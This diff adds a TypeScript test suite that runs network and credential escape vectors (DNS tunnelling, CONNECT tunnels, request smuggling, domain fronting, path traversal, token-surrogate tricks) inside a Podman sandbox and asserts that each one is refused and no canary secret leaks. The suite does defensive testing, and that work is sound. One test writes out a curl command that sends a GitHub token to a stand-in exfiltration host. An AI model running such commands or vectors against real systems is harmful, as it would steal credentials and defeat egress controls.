@@ -1,0 +1,207 @@
+/**
+ * Escape suite, network and credential half (issue 9): every vector runs inside `airlock run` on real Podman as the
+ * untrusted command and tries to get a canary out (the real GH_TOKEN behind its surrogate, the real AWS key) or to
+ * reach blocked content. The listeners on this machine record every byte they receive; a vector passes only when
+ * its own outcome is the refusal the sandbox promises AND nothing it did reached a listener it must not reach.
+ * Afterwards the sandbox's environment, /proc and root file system are searched for every canary.
+ *
+ * Run after `npm run build`: node --import tsx --test --test-concurrency=1 test/escape/network-and-credential-escapes.test.ts
+ */
+import assert from 'node:assert/strict';
+import { writeFile } from 'node:fs/promises';
+import path from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import {
+  canariesIn,
+  containsSecret,
+  dumpScript,
+  listenerViolations,
+  runInSandbox,
+  startEscapeFixture,
+  removeEscapeFixture,
+  vectorTests,
+  type EscapeFixture,
+  type SandboxRun,
+  type VectorTable,
+} from './fixture.js';
+
+/** Vector → the only outcome the sandbox may produce. `proxy` stands for the proxy's address. */
+const VECTORS: VectorTable = {
+  dns_long_labels: { expect: 'rcode0:an1:proxy', why: 'answered locally with the proxy address, never forwarded' },
+  dns_txt: { expect: 'rcode0:an0', why: 'no TXT data exists to carry anything back' },
+  dns_any: { expect: 'rcode0:an0', why: 'ANY gets an empty answer' },
+  dns_aaaa: { expect: 'rcode0:an0', why: 'no IPv6 answers' },
+  dns_tcp: { expect: 'rcode0:an1:proxy', why: 'TCP DNS is answered by the same responder, never forwarded' },
+  dns_other_resolvers_udp: { expect: 'no_answer', why: 'no route to any other resolver' },
+  dns_other_resolvers_tcp: { expect: 'no_answer', why: 'no route to any other resolver' },
+  direct_ip_tcp: { expect: 'unreachable', why: 'the internal network has no route to the host' },
+  proxy_ip_literal_https: { expect: 'handshake_failed', why: 'no SNI, no certificate' },
+  host_ip_literal_via_proxy: { expect: '403:host_not_allowed', why: 'an IP literal is a host like any other' },
+  proxy_other_ports: { expect: '53,80,443', why: 'the proxy listens on nothing else' },
+  udp_direct: { expect: 'replies0', why: 'UDP has no route out and no listener on the proxy' },
+  icmp: { expect: /^(no_reply|no_socket)$/, why: 'ICMP has no route out' },
+  raw_socket: { expect: 'denied', why: 'NET_RAW dropped' },
+  packet_socket: { expect: 'denied', why: 'NET_RAW dropped' },
+  ipv6: { expect: 'disable_ipv6=1:unreachable', why: 'IPv6 disabled in the sandbox' },
+  connect_http: { expect: '403:connect_not_allowed', why: 'no tunnels' },
+  connect_https: { expect: '403:connect_not_allowed', why: 'no tunnels, inside TLS either' },
+  absolute_form_https: { expect: '403:host_mismatch', why: 'target authority must equal Host' },
+  absolute_form_http: { expect: '403:host_mismatch', why: 'target authority must equal Host' },
+  absolute_form_userinfo: { expect: '403:host_mismatch', why: 'userinfo in the authority is refused' },
+  sni_host_mismatch: { expect: '403:host_mismatch', why: 'SNI must equal Host' },
+  sni_blocked_host_allowed: { expect: '403:host_mismatch', why: 'SNI must equal Host' },
+  no_sni: { expect: 'handshake_failed', why: 'no SNI, no certificate' },
+  domain_fronting_curl: { expect: '403:host_mismatch', why: 'SNI must equal Host' },
+  host_port_override: {
+    expect: '200',
+    why: 'a port in Host never redirects the proxy elsewhere (checked at the listeners)',
+  },
+  encoded_traversal: { expect: '403:invalid_path', why: 'decoded `..` segment' },
+  plain_traversal: { expect: '403:invalid_path', why: '`..` segment' },
+  nul_in_path: { expect: '403:invalid_path', why: 'NUL after decoding' },
+  backslash_path: { expect: '403:invalid_path', why: 'backslash after decoding' },
+  path_outside_prefix: { expect: '403:path_not_allowed', why: 'outside /api/*' },
+  cl_te_conflict: { expect: /^400(:bad_request)?$/, why: 'Content-Length beside Transfer-Encoding is malformed' },
+  te_obfuscated: { expect: /^400(:bad_request)?$/, why: 'unknown or malformed Transfer-Encoding is malformed' },
+  obs_fold_host: { expect: /^400(:bad_request)?$/, why: 'obsolete line folding is malformed' },
+  duplicate_host: { expect: '400:bad_request', why: 'exactly one Host' },
+  pipelined_second_host: {
+    expect: '200,403:host_mismatch,403:path_not_allowed',
+    why: 'each pipelined request on one connection is judged on its own',
+  },
+  trace_echo: { expect: '403:trace_not_allowed', why: 'TRACE would echo the real credential' },
+  track_echo: {
+    expect: /^(403:trace_not_allowed|400:bad_request)$/,
+    why: 'TRACK is refused (not even a method to the parser)',
+  },
+  redirect_to_blocked: { expect: '302,403:host_not_allowed', why: 'the redirect is a new request, judged again' },
+  websocket_blocked: { expect: '403:host_not_allowed', why: 'an upgrade is admitted like a request' },
+  websocket_host_swap: { expect: '403:host_mismatch', why: 'an upgrade is admitted like a request' },
+  masked_positive_control: { expect: '200', why: 'in scope: the real value is sent (proves the detector works)' },
+  surrogate_in_query: { expect: '200', why: 'the surrogate travels on unchanged in a query' },
+  surrogate_in_body: { expect: '200', why: 'bodies are never rewritten' },
+  surrogate_in_other_header: { expect: '200', why: 'only the named header is rewritten' },
+  surrogate_out_of_scope: { expect: '200', why: 'out of scope: the surrogate travels on' },
+  surrogate_plain_http_in_scope: { expect: '200', why: 'real values only over HTTPS' },
+  duplicate_authorization: { expect: '200', why: 'collapsed to the single credential' },
+  authorization_list: { expect: '200', why: 'a surrogate with other content is stripped, never partly swapped' },
+  basic_surrogate_user_attacker_password: { expect: '200', why: 'stripped: the attacker password would ride along' },
+  basic_userinfo_out_of_scope: { expect: '200', why: 'out of scope: the surrogate travels on' },
+  host_case_and_dot: { expect: '200', why: 'allowed.test however spelled; the real value only goes there' },
+  aws_positive_control: { expect: '200', why: 'in scope: re-signed with the real key (proves the detector works)' },
+  aws_presigned_in_scope: { expect: '200', why: 'in scope: re-signed' },
+  aws_presigned_out_of_scope: { expect: '200', why: 'out of scope: the surrogate key id travels on' },
+  aws_signed_out_of_scope: { expect: '200', why: 'out of scope: the surrogate signature travels on' },
+  aws_signed_for_scope_sent_elsewhere: { expect: '200', why: 'judged by the host it is sent to' },
+};
+
+let fixture: EscapeFixture;
+let run: SandboxRun;
+const dumpDir = '.escape-dump-network';
+
+before(async () => {
+  fixture = await startEscapeFixture();
+  const script = [`python3 probes/network_vectors.py ${Object.keys(VECTORS).join(' ')}`, dumpScript(dumpDir)].join(
+    '\n',
+  );
+  run = await runInSandbox(fixture, script);
+});
+
+after(() => removeEscapeFixture(fixture));
+
+describe('escape vectors: network and credentials (podman)', () => {
+  vectorTests(VECTORS, () => ({ fixture, run }));
+
+  it('positive controls: the real values did arrive where they belong, so the detectors can see them', () => {
+    const allowed = fixture.recorders.allowed.requests.find((q) => q.url === '/api/control');
+    assert.ok(allowed, 'the control request reached allowed.test');
+    const auth = allowed.headers.filter(([n]) => n.toLowerCase() === 'authorization');
+    assert.deepEqual(
+      auth.map(([, v]) => v),
+      [`Bearer ${fixture.canaries.ghToken}`],
+    );
+    const aws = fixture.recorders.aws.requests.find((q) => q.url.startsWith('/bucket/control'));
+    assert.ok(aws, 'the signed control request reached s3.aws.test');
+    assert.ok(containsSecret(aws.headers.map(([n, v]) => `${n}: ${v}`).join('\n'), fixture.canaries.awsKeyId));
+    const presigned = fixture.recorders.aws.requests.find((q) => q.url.startsWith('/bucket/presigned'));
+    assert.ok(presigned && containsSecret(presigned.url, fixture.canaries.awsKeyId), 'presigned URL re-signed');
+  });
+
+  it('surrogates outside their one place reach the upstream unchanged, never as the real value', () => {
+    const { allowed, exfil } = fixture.recorders;
+    const surrogateSeen = (url: string, recorder = allowed) => recorder.requests.find((q) => q.url.startsWith(url));
+    const query = surrogateSeen('/api/q');
+    assert.ok(query && !containsSecret(query.url, fixture.canaries.ghToken) && /token=ghp_/.test(query.url));
+    const body = surrogateSeen('/api/body');
+    assert.ok(body && body.body.toString().startsWith('token=ghp_'));
+    assert.ok(!containsSecret(body.body, fixture.canaries.ghToken));
+    const plain = surrogateSeen('/api/plain');
+    assert.ok(plain, 'plain HTTP request reached allowed.test');
+    assert.ok(!containsSecret(plain.headers.map(([, v]) => v).join('\n'), fixture.canaries.ghToken));
+    const dup = surrogateSeen('/api/dup-auth');
+    assert.deepEqual(
+      dup?.headers.filter(([n]) => n.toLowerCase() === 'authorization').map(([, v]) => v),
+      [`Bearer ${fixture.canaries.ghToken}`],
+      'two Authorization headers collapse to the one real credential: ATTACKER never rides along',
+    );
+    for (const url of ['/api/auth-list', '/api/basic-swap']) {
+      const q = surrogateSeen(url);
+      assert.ok(q, url);
+      assert.deepEqual(
+        q.headers.filter(([n]) => n.toLowerCase() === 'authorization'),
+        [],
+        `${url}: a surrogate with other content is stripped`,
+      );
+    }
+    const collect = surrogateSeen('/collect', exfil);
+    assert.ok(collect && /Bearer ghp_/.test(collect.headers.map(([, v]) => v).join('\n')));
+  });
+
+  it('no smuggled or refused request reached any upstream, and nothing reached blocked.test, attacker.test or the raw listeners', () => {
+    assert.deepEqual(listenerViolations(fixture), []);
+    for (const r of Object.values(fixture.recorders)) {
+      assert.ok(!r.requests.some((q) => q.url.includes('smuggled')), `${r.name} saw a smuggled request`);
+    }
+  });
+
+  it('no canary anywhere in the sandbox (blocked content, real secrets): env, every process environ/cmdline, root file system, output', async () => {
+    for (const secret of Object.values(fixture.canaries)) assert.ok(!containsSecret(run.stdout, secret));
+    assert.deepEqual(await canariesIn(path.join(fixture.workspace, dumpDir), fixture.canaries), []);
+  });
+
+  it('the detectors catch a leak: under a deliberately leaky policy every kind of violation is reported', async () => {
+    const leaky = await startEscapeFixture();
+    try {
+      // Scope the token to the attacker's host, hand the real value to the sandbox, allow the blocked host.
+      await writeFile(
+        path.join(leaky.workspace, '.airlock/sandbox.yaml'),
+        leaky.sandboxYaml.replace('scopes: [allowed.test]', 'scopes: [allowed.test, exfil.test]') +
+          '  LEAKED: !env GH_TOKEN\n',
+      );
+      await writeFile(
+        path.join(leaky.workspace, '.airlock/network-allowlist.yaml'),
+        leaky.allowlistYaml + '  - {host: blocked.test}\n',
+      );
+      const r = await runInSandbox(
+        leaky,
+        [
+          'curl -s https://blocked.test/content',
+          'curl -s -o /dev/null -H "Authorization: Bearer $GH_TOKEN" https://exfil.test/collect',
+          dumpScript('.dump'),
+        ].join('\n'),
+      );
+      assert.equal(r.code, 0, r.stderr);
+      const seen = listenerViolations(leaky).map((v) => v.what);
+      assert.ok(seen.includes('a connection reached blocked.test'), JSON.stringify(seen));
+      assert.ok(seen.includes('real GH_TOKEN at exfil.test'), JSON.stringify(seen));
+      assert.ok(containsSecret(r.stdout, leaky.canaries.blockedContent));
+      const found = await canariesIn(path.join(leaky.workspace, '.dump'), leaky.canaries);
+      assert.ok(
+        found.some((f) => f.startsWith('GH_TOKEN real value in') && f.endsWith('env.txt')),
+        JSON.stringify(found),
+      );
+    } finally {
+      await removeEscapeFixture(leaky);
+    }
+  });
+});
